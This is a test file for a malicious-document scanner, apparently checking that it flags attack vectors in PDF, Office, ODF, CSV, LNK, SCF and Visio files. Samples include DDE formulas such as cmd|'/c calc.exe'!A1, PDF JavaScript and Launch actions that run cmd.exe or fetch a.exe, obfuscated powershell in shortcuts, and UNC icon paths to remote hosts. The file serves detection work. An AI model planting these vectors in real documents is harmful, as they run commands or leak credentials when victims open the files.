import { deflateSync } from 'node:zlib'

import { describe, expect, it } from 'vitest'

import { compoundOf } from '../../../test/documents/compound.ts'
import { itemsOf } from '../../../test/documents/items-of.ts'
import { ooxmlOf, relationsOf } from '../../../test/documents/ooxml.ts'
import {
  excel2003,
  flatOf,
  lnkOf,
  odfContent,
  odfOf,
  odsDde,
  odsFormula,
  odtDde,
  pdfOf,
  word2003,
  xlsbOf,
  xlsxOf,
} from '../../../test/documents/samples.ts'
import {
  docxOf,
  field,
  paragraph,
  wordXml,
} from '../../../test/documents/word.ts'
import { zipOf } from '../../../test/tools/archives.ts'
import { guidBytes } from './binary/guid.ts'

const link = { service: 'cmd', topic: '/c calc.exe', item: 'A1' }
const formula = `=cmd|'/c calc.exe'!A1`
const dde = {
  DdeService: 'cmd',
  DdeTopic: '/c calc.exe',
  DdeCommand: 'cmd /c calc.exe',
}

describe('a script of a PDF', () => {
  const script = "app['launch'+'URL']('http://files.example/a.exe')"
  const said = "JavaScript app.launchURL('http://files.example/a.exe')"

  it.each([
    ['in its action', pdfOf(`<</S/JavaScript/JS(${script})>>`)],
    [
      'an object of its own',
      pdfOf('<</S/JavaScript/JS 2 0 R>>', `<<>>stream\n${script}endstream`),
    ],
    [
      'an object of its own, packed',
      Buffer.concat([
        Buffer.from(
          '%PDF-1.7\n1 0 obj<</S/JavaScript/JS 2 0 R>>endobj\n2 0 obj<</Filter/FlateDecode>>stream\n',
        ),
        deflateSync(script),
        Buffer.from('\nendstream endobj\n%%EOF\n'),
      ]),
    ],
  ])('is told with what its pieces come to: %s', async (_, pdf) => {
    const { items } = await itemsOf(Buffer.from(pdf))
    expect(items).toEqual([
      expect.objectContaining({ ItemText: said, RelationType: 'JavaScript' }),
    ])
  })

  it('whose object is not there is told of', async () => {
    const { items } = await itemsOf(
      Buffer.from(pdfOf('<</S/JavaScript/JS 9 0 R>>')),
    )
    expect(items.map((i) => i.ItemText)).toEqual(['JavaScript'])
  })
})

describe('a PDF that is something else as well', () => {
  const letter = docxOf(paragraph(field('DDE cmd "/c calc.exe"')))
  const archive = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Location: file:///a.docx\r\nContent-Transfer-Encoding: base64\r\n\r\n${letter.toString('base64')}\r\n--x--\r\n`
  const plain = Buffer.from(pdfOf('<</A 1>>'))
  it.each<[string, (Buffer | string)[]]>([
    [
      'a web archive behind its objects',
      ['%PDF-1.7\n1 0 obj\n<<>>\nendobj\n', archive],
    ],
    [
      'a web archive in a stream',
      [
        '%PDF-1.7\n1 0 obj\n<<>>\nstream\n',
        archive,
        'endstream\nendobj\n%%EOF\n',
      ],
    ],
    ['a package behind its end', [plain, '%%EOF\n', letter]],
  ])('is read as that too: %s', async (_, parts) => {
    const { items } = await itemsOf(
      Buffer.concat(parts.map((part) => Buffer.from(part))),
    )
    expect(items.map((i) => i.DdeCommand).filter(Boolean)).toEqual([
      'cmd /c calc.exe',
    ])
  })
})

describe('DDE', () => {
  const word = 'DDE cmd "/c calc.exe"'
  const document =
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
  it.each([
    ['xlsx', xlsxOf({}, { link })],
    ['xlsx', xlsxOf({ B2: formula })],
    [
      'xlsm',
      xlsxOf(
        { B2: formula },
        { type: 'vnd.ms-excel.sheet.macroEnabled.main+xml' },
      ),
    ],
    ['odt', odfOf('text', odtDde(link))],
    ['ods', odfOf('spreadsheet', odsDde(link))],
    ['ods', odfOf('spreadsheet', odsFormula('=DDE("cmd";"/c calc.exe";"A1")'))],
    ['flat-odf', odfContent(odtDde(link), 'document')],
    ['excel-2003-xml', excel2003(formula)],
    ['excel-2003-xml', excel2003('', 'cmd|/c calc.exe')],
    ['word-2003-xml', word2003(paragraph(field(word)))],
    [
      'docx',
      flatOf({
        'word/document.xml': {
          type: document,
          xml: wordXml('document', paragraph(field(word))),
        },
      }),
    ],
    ['csv', `a,b\n1,"${formula}"\n`],
    ['tsv', `a\tb\n1\t${formula}\n`],
    ['csv', formula],
    ['slk', `ID;PWXL;N;E\r\nC;Y1;X1;K0;E${formula.slice(1)}\r\nE\r\n`],
    [
      'dif',
      `TABLE\r\n0,1\r\n"EXCEL"\r\nDATA\r\n0,0\r\n""\r\n-1,0\r\nBOT\r\n1,0\r\n"${formula}"\r\n-1,0\r\nEOD\r\n`,
    ],
  ])('in %s is told with its command', async (format, source) => {
    const { items, damages } = await itemsOf(Buffer.from(source))
    const found = items.filter((i) => i.DdeCommand)
    expect(found).toMatchObject([{ DocumentFormat: format, ...dde }])
    expect(damages).toEqual([])
  })

  it.each([
    ['CSV', `a,b\n1,"'${formula}"\n`],
    ['CSV of one cell', `'${formula}\n`],
    ['TSV', `a\tb\n1\t'${formula}\n`],
  ])(
    'behind an apostrophe is told as text in %s, and no command',
    async (_, source) => {
      const named = zipOf([{ name: 'export.csv', content: source }])
      const { items } = await itemsOf(named)
      const formulas = items.filter((i) => i.ItemKind === 'formula')
      expect(formulas).toMatchObject([
        {
          ItemText: formula,
          ItemSource: `'${formula}`,
          CellMark: 'apostrophe',
        },
      ])
      expect(formulas[0]).not.toHaveProperty('DdeService')
    },
  )

  it.each([' ', '\t', '\0'])(
    'behind %j in a cell is told with its command: not every program takes it as text',
    async (before) => {
      const text = `a,b\n1,"${before}${formula}"\n`
      const { items } = await itemsOf(Buffer.from(text))
      expect(items.filter((i) => i.DdeCommand)).toMatchObject([dde])
    },
  )

  it('in xlsb is told with its command, and so are its formulas', async () => {
    // "a"&"b", and WEBSERVICE is none of the numbers: HYPERLINK with one argument.
    const text = (t: string) =>
      Buffer.concat([
        Buffer.from([0x17, t.length, 0]),
        Buffer.from(t, 'utf16le'),
      ])
    const tokens = Buffer.concat([
      text('http://198.51.100.7'),
      Buffer.from([0x22, 1, 0x67, 0x01]),
    ])
    const { items, document, damages } = await itemsOf(xlsbOf(link, tokens))
    expect(document).toMatchObject({ DocumentFormat: 'xlsb' })
    expect(items).toMatchObject([
      {
        FunctionName: 'HYPERLINK',
        Target: 'http://198.51.100.7',
        DocumentPosition: 'Data!B4',
      },
      { ItemText: "cmd|'/c calc.exe'!A1", ...dde },
    ])
    expect(damages).toEqual([])
  })

  it('has the cell where it stands', async () => {
    const { items } = await itemsOf(Buffer.from(excel2003(formula)))
    expect(items[0]!.DocumentPosition).toBe('Data!A4')
    const ods = await itemsOf(
      odfOf('spreadsheet', odsFormula('=DDE("a";"b";"c")')),
    )
    expect(ods.items[0]!.DocumentPosition).toBe('Data!B4')
  })
})

describe('a package', () => {
  it('of slides tells what a click starts', async () => {
    const slide = 'vnd.openxmlformats-officedocument.presentationml.slide+xml'
    const { items } = await itemsOf(
      ooxmlOf({
        type: 'vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
        mainName: 'ppt/presentation.xml',
        main: '<p:presentation/>',
        parts: {
          'ppt/slides/slide1.xml': {
            type: slide,
            content:
              '<p:sld><a:hlinkMouseOver r:id="r1" action="ppaction://program"/><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/><a:hlinkClick action="ppaction://macro?name=Go"/></p:sld>',
          },
          'ppt/slides/_rels/slide1.xml.rels': {
            content: relationsOf({
              id: 'r1',
              type: 'hyperlink',
              target: 'cmd.exe%20/c%20calc',
              external: true,
            }),
          },
        },
      }),
    )
    expect(items.filter((i) => i.ItemKind === 'action')).toMatchObject([
      { RelationType: 'hlinkMouseOver', Target: 'cmd.exe /c calc' },
      { MacroName: 'Go' },
    ])
  })

  it('of Visio tells what a cell runs', async () => {
    const { items, document } = await itemsOf(
      ooxmlOf({
        type: 'vnd.ms-visio.drawing.main+xml',
        mainName: 'visio/document.xml',
        main: '<VisioDocument/>',
        parts: {
          'visio/pages/page1.xml': {
            type: 'vnd.ms-visio.page+xml',
            content:
              '<PageContents><Cell N="EventDblClick" F="RUNADDON(&quot;calc&quot;)"/><Cell N="Width" V="1"/></PageContents>',
          },
        },
      }),
    )
    expect(document).toMatchObject({ DocumentFormat: 'vsdx' })
    expect(items).toMatchObject([{ FunctionName: 'RUNADDON', Target: 'calc' }])
  })
})

it('a sheet of a workbook is one, whatever its type says', async () => {
  const { items } = await itemsOf(
    xlsxOf({ B2: formula }, { sheetType: 'image/png' }),
  )
  expect(items).toMatchObject([dde])
})

describe('a file that points elsewhere', () => {
  it.each([
    [
      'url',
      '[InternetShortcut]\r\nURL=file://198.51.100.7/a.exe\r\n',
      'file://198.51.100.7/a.exe',
    ],
    ['iqy', 'WEB\r\n1\r\nhttp://198.51.100.7/q\r\n', 'http://198.51.100.7/q'],
    ['iqy', '\r\nWEB \r1 \rhttp://198.51.100.7/q\r', 'http://198.51.100.7/q'],
    [
      'odc',
      '<html><head><xml id=msodc><odc:OfficeDataConnection xmlns:odc="urn:schemas-microsoft-com:office:odc"><odc:Connection odc:Type="OLEDB"><odc:ConnectionString>Provider=x;Data Source=&quot;a&quot;</odc:ConnectionString></odc:Connection></odc:OfficeDataConnection></xml></head></html>',
      'Provider=x;Data Source="a"',
    ],
    [
      'dqy',
      'XLODBC\r\n1\r\nDRIVER=x;SERVER=\\\\198.51.100.7\r\nSELECT 1\r\n',
      'DRIVER=x;SERVER=\\\\198.51.100.7',
    ],
    [
      'rqy',
      'QueryType=OLEDB\r\nVersion=1\r\nConnection=Provider=x\r\n',
      'Provider=x',
    ],
    [
      'settingcontent-ms',
      '<?xml version="1.0"?><PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation><DeepLink>cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
      'cmd.exe /c calc',
    ],
    [
      'settingcontent-ms',
      '<?xml version="1.0"?><PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><DeepLink>cmd<x/>.exe<!-- --> /c <![CDATA[calc]]></DeepLink></SearchableContent></PCSettings>',
      'cmd.exe /c calc',
    ],
    ['lnk', lnkOf('..\\cmd.exe', '/c calc'), '..\\cmd.exe /c calc'],
    [
      'lnk',
      lnkOf('%ComSpec%', `${' '.repeat(300)}/c p^o^wershell "a^b"`),
      'C:\\Windows\\System32\\cmd.exe /c powershell "a^b"',
    ],
    [
      'library-ms',
      '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\host@80\\x</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
      '\\\\host@80\\x',
    ],
    [
      'search-ms',
      '<persistedQuery version="1.0"><query><scope><include path="\\\\host\\x"/></scope></query></persistedQuery>',
      '\\\\host\\x',
    ],
    ['scf', '[Shell]\r\nIconFile=\\\\host\\a.ico\r\n', '\\\\host\\a.ico'],
    [
      'desktop-ini',
      '[ViewState]\r\nMode=\r\n[.ShellClassInfo]\r\nIconResource=\\\\host\\a.ico,1\r\n',
      '\\\\host\\a.ico,1',
    ],
    [
      'pdf',
      pdfOf('<</OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>>>'),
      'cmd.exe /c calc',
    ],
    ['pdf', pdfOf('<</A<</S/#4caunch/F(cmd.exe)>>>>'), 'cmd.exe'],
    ['pdf', pdfOf('<</A<</S/Launch/F<636d642e657865>>>>>'), 'cmd.exe'],
    ['pdf', pdfOf('<</A<</P(>>)/S/Launch/F(cmd.exe)>>>>'), 'cmd.exe >>'],
  ])('%s: its target', async (format, source, target) => {
    const { items } = await itemsOf(Buffer.from(source))
    expect(items.find((i) => i.Target)).toMatchObject({
      DocumentFormat: format,
      Target: target,
    })
  })

  it('and a PDF gives the files in it to be read', async () => {
    const packed = deflateSync(`=cmd|'/c calc.exe'!A1`).toString('latin1')
    const source = pdfOf(
      '<</Type/Filespec/F(x.csv)/EF<</F 2 0 R>>>>',
      `<</Type/EmbeddedFile/Filter/FlateDecode/Length ${packed.length}>>stream\n${packed}\nendstream`,
    )
    const { items } = await itemsOf(Buffer.from(source, 'latin1'))
    expect(items).toMatchObject([
      { ItemKind: 'attachment', EmbeddedName: 'x.csv' },
      { DdeCommand: 'cmd /c calc.exe', DocumentName: 'x.csv' },
    ])
  })
})

it('what is encrypted is said, and is no document without items', async () => {
  const source = odfOf('text', '<office:text/>').toString('latin1')
  expect(source).toContain('mimetype')
  const { items, damages } = await itemsOf(
    Buffer.from(pdfOf('<</Encrypt 2 0 R>>')),
  )
  expect(items).toMatchObject([{ ItemKind: 'encrypted' }])
  expect(damages).toHaveLength(1)
})

it('a package that was cut off is read as far as it goes', async () => {
  const whole = xlsxOf({ B2: formula })
  const { items } = await itemsOf(
    whole.subarray(0, whole.indexOf('PK\x01\x02')),
  )
  expect(items).toMatchObject([dde])
})

describe('Visio and Publisher', () => {
  it('a drawing of Visio 2003 in XML tells what its cells run and link, and gives its macros', async () => {
    const drawing = `<?xml version='1.0'?><VisioDocument xmlns='http://schemas.microsoft.com/visio/2003/core'><Pages><Page><Shapes><Shape><Event><EventDblClick F='RUNADDON("cmd /c calc")'>0</EventDblClick><TheText F='No Formula'>0</TheText></Event><Hyperlink><Address>\\\\198.51.100.7\\a</Address></Hyperlink></Shape></Shapes></Page></Pages></VisioDocument>`
    const { items } = await itemsOf(Buffer.from(drawing))
    expect(items).toMatchObject([
      {
        DocumentFormat: 'vdx',
        ItemKind: 'formula',
        ItemText: '=RUNADDON("cmd /c calc")',
      },
      { ItemKind: 'link', Target: '\\\\198.51.100.7\\a' },
    ])
  })

  it('a drawing of Visio 5 says that its shapes are not inspected', async () => {
    const bytes = compoundOf({ streams: { VisioDocument: Buffer.alloc(5000) } })
    const { problems } = await itemsOf(bytes)
    expect(problems.join()).toContain('shapes of Visio before 2000')
  })

  it('a publication tells where its links lead', async () => {
    const text = Buffer.from('read more http://198.51.100.7/a.hta\0', 'utf16le')
    const bytes = compoundOf({
      streams: {
        'Quill/QuillSub/CONTENTS': Buffer.concat([Buffer.alloc(5001), text]),
      },
    })
    const { items } = await itemsOf(bytes)
    expect(items).toMatchObject([
      { DocumentFormat: 'pub', Target: 'http://198.51.100.7/a.hta' },
    ])
  })
})

describe('controls', () => {
  const ax =
    'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
  const control = (xml: string, bin?: Buffer) =>
    ooxmlOf({
      type: 'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      mainName: 'word/document.xml',
      main: wordXml('document', ''),
      parts: {
        'word/_rels/document.xml.rels': {
          content: relationsOf({
            id: 'r1',
            type: 'control',
            target: 'activeX/activeX1.xml',
          }),
        },
        'word/activeX/activeX1.xml': { content: xml },
        ...(bin && {
          'word/activeX/_rels/activeX1.xml.rels': {
            content: relationsOf({
              id: 'r1',
              type: 'activeXControlBinary',
              target: 'activeX1.bin',
            }),
          },
          'word/activeX/activeX1.bin': { content: bin },
        }),
      },
    })

  it('say their class, and where a property leads', async () => {
    const { items } = await itemsOf(
      control(
        `<ax:ocx ${ax} ax:classid="{8856f961-340a-11d0-a96b-00c04fd705a2}" ax:persistence="persistPropertyBag"><ax:ocxPr ax:name="Location" ax:value="http://198.51.100.7/a.htm"/></ax:ocx>`,
      ),
    )
    expect(items).toMatchObject([
      {
        ItemKind: 'object',
        ClassId: '{8856F961-340A-11D0-A96B-00C04FD705A2}',
        ProgId: 'Shell.Explorer.2',
        Target: 'http://198.51.100.7/a.htm',
      },
    ])
  })

  it('say the class that their state begins with', async () => {
    const id = '06290BD3-48AA-11D2-8432-006008C3FBFC'
    const xml = `<ax:ocx ${ax} ax:persistence="persistStreamInit" r:id="r1"/>`
    const { items } = await itemsOf(control(xml, guidBytes(id)))
    expect(items[0]).toMatchObject({ ProgId: 'ScriptletFile' })
  })
})
